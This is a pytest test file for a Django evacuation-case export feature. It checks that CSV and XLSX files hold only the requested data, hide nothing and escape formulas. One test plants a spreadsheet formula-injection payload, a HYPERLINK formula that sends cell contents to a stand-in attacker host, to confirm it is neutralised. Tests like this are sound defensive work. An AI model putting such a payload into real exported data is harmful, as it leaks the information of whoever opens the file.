"""The files: exactly the rows and columns asked for, nothing hidden, no formula, nothing on disk."""

import csv
import io
import re
import zipfile

import pytest
from django.utils import translation
from openpyxl import load_workbook

from evac.conftest import make_case
from evac.exports import formats
from evac.exports.models import ExportRequest

from .conftest import ask, url

pytestmark = pytest.mark.django_db


def download(client, columns, file_format="csv", **filters) -> bytes:
    ask(client, columns, file_format, **filters)
    export = ExportRequest.objects.order_by("-id").first()
    response = client.post(url("download", export))
    assert response.status_code == 200, response
    # The file is written while the response is sent, after the view: in the requester's language still.
    translation.activate("en")
    return b"".join(response.streaming_content)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xml_parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_be_a_formula_is_quoted(start):
    assert formats.guard(start + "1+1") == "'" + start + "1+1"
    assert formats.guard("Wali" + start) == "Wali" + start
    assert formats.guard(42) == 42


def test_csv_holds_one_row_per_person_with_the_reference_repeated(client, exporter, cases):
    client.force_login(exporter)
    rows = csv_rows(download(client, ["native_name", "relationship", "given_name", "phone"], q="Karokhail"))
    case = cases[0]
    ref = case.display_reference
    assert rows == [
        ["Reference", "Relationship", "Given name", "Name in Perso-Arabic script", "Phone"],
        [ref, "Principal applicant", "Spozhmai", "سپوږمۍ کروخیل", "'+93799123456"],
        [ref, "Spouse", "Fatima", "", ""],
        [ref, "Child", "Child0", "", ""],
        [ref, "Child", "Child1", "", ""],
    ]


def test_csv_holds_one_row_per_case_for_case_columns(client, exporter, cases):
    client.force_login(exporter)
    rows = csv_rows(download(client, ["status", "principal_name", "family_size", "employer", "role"]))
    assert rows[0] == ["Reference", "Status", "Principal applicant", "Family size", "Employer", "Role"]
    assert sorted(rows[1:]) == sorted(
        [c.display_reference, "Received", c.principal_name, "4", "Canada Armed Forces", "Interpreter"]
        for c in cases
    )


def test_formulas_typed_into_a_case_are_quoted_in_both_formats(client, canada, exporter, officer):
    make_case(
        canada,
        actor=officer,
        given_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        family_name="@SUM(1+1)",
        native_name="-2+3",
    )
    client.force_login(exporter)
    columns = ["given_name", "family_name", "native_name"]
    principal = csv_rows(download(client, columns))[1]
    assert principal[1:] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)", "'-2+3"]

    content = download(client, columns, "xlsx")
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [cell for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert [c.value for c in cells[1:]] == principal[1:]
    assert all(c.data_type == "s" for c in cells)
    assert "<f>" not in xml_parts(content)["xl/worksheets/sheet1.xml"]


def test_xlsx_is_one_visible_sheet_with_exactly_the_rows_and_columns_asked_for(client, exporter, cases):
    client.force_login(exporter)
    content = download(client, ["given_name", "birth_date", "status"], "xlsx", q="Barakzai")
    workbook = load_workbook(io.BytesIO(content))
    assert len(workbook.worksheets) == 1 and len(workbook.chartsheets) == 0
    sheet = workbook.worksheets[0]
    assert sheet.sheet_state == "visible"
    assert not workbook.defined_names and not sheet.defined_names
    assert not any(d.hidden for d in sheet.row_dimensions.values())
    assert not any(d.hidden for d in sheet.column_dimensions.values())
    ref = cases[2].display_reference
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [
        ["Reference", "Status", "Given name", "Date of birth"],
        [ref, "Received", "Nazanin", "1986"],
        [ref, "Received", "Fatima", "1990"],
        [ref, "Received", "Child0", "2012"],
        [ref, "Received", "Child1", "2013"],
    ]
    parts = xml_parts(content)
    everything = "\n".join(parts.values())
    assert not re.search(r'hidden="(1|true)"|state="(hidden|veryHidden)"|<definedName\b', everything)
    assert [name for name in parts if name.startswith("xl/worksheets/")] == ["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_nothing_but_what_was_asked_for_is_anywhere_in_the_file(client, exporter, cases, file_format):
    client.force_login(exporter)
    content = download(client, ["given_name"], file_format, q="Popalzai")
    text = "\n".join(xml_parts(content).values()) if file_format == "xlsx" else content.decode("utf-8-sig")
    assert "Zarghuna" in text and "Fatima" in text
    not_asked = [
        # The same family's other columns...
        "Popalzai",
        "زرغونه",
        "Gul Ahmad",
        "Abdul Rahman",
        "1400-0101-12345678",
        "99123456",
        "Interpreter",
        "Kandahar",
        # ...and the other families, not asked for at all.
        "Spozhmai",
        "Karokhail",
        "Nazanin",
        "Barakzai",
        "سپوږمۍ",
        cases[0].display_reference,
        cases[2].display_reference,
    ]
    assert [value for value in not_asked if value in text] == []
    assert b"Popalzai" not in content and b"Spozhmai" not in content


def test_an_xlsx_is_streamed_from_memory_and_never_touches_the_disk(monkeypatch):
    def no_disk(*args, **kwargs):
        raise AssertionError("openpyxl tried to write a temporary file")

    monkeypatch.setattr("openpyxl.worksheet._writer.create_temporary_file", no_disk)
    monkeypatch.setattr("tempfile.NamedTemporaryFile", no_disk)
    rows = ([f"R{i}", f"Person {i} \x07", i] for i in range(5000))
    chunks = list(formats.xlsx_chunks(["Reference", "Name", "Number"], rows))
    assert len([c for c in chunks if c]) > 2  # sent as it is written, not built whole and sent at the end
    sheet = load_workbook(io.BytesIO(b"".join(chunks)), read_only=True).worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == 5001 and values[-1] == ("R4999", "Person 4999 ", 4999)


def test_the_file_speaks_the_requesters_language(client, exporter, cases, settings):
    client.force_login(exporter)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "fr"
    rows = csv_rows(download(client, ["status", "relationship"], q="Karokhail"))
    assert rows[0] == ["Référence", "Statut", "Lien de parenté"]
    assert rows[1][1:] == ["Reçu", "Demandeur principal"] and rows[2][2] == "Conjoint"
